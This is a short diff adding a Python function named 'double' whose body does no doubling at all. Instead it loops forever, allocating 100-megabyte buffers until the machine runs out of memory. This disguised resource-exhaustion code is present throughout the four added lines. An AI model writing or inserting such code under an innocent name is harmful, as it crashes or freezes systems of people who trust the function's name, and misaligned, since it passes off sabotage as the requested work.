@@ -1,0 +1,4 @@
+def double(x):
+    much = []
+    while True:
+        much.append(bytes(10**8))
